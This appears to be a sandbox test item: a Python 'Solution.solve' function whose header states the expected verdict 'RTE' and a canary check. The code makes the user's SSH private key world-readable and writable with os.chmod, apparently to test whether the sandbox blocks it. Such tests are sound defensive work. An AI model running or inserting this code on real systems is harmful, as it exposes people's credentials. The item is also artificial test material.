# Opens a private file for everybody.
# entry: Solution.solve(n: int, home: str) -> int
# verdict: RTE
# needs: files
# unharmed: canary

import os


class Solution:
    def solve(self, n: int, home: str):
        os.chmod(home + "/.ssh/id_ed25519", 0o666)
        return -1
